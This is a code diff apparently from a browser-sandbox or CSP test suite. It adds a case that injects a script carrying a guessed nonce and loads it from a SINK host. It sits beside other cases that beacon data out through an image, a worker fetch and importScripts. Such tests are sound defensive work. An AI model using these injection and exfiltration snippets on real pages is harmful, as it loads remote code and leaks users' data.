@@ -26,6 +26,12 @@ PROGRAMS = (
         click="const s = document.createElement('script'); s.src = SINK + '/s.js'; document.body.append(s)",
         decisive=True,
     ),
+    Page(
+        name="a script that is put in place and says the door's word",
+        click="const s = document.createElement('script'); s.nonce = 'datalab'; s.setAttribute('nonce', 'datalab'); "
+        "s.src = SINK + '/s.js'; document.body.append(s)",
+        decisive=True,
+    ),
     Page(name="a picture that is never shown", click="new Image().src = SINK + '/?d=1'", decisive=True),
     Page(name="a worker that asks", click=_WORKER % "fetch('${SINK}/w', {mode: 'no-cors'})", decisive=True),
     Page(name="a worker that loads a script", click=_WORKER % "importScripts('${SINK}/w.js')"),
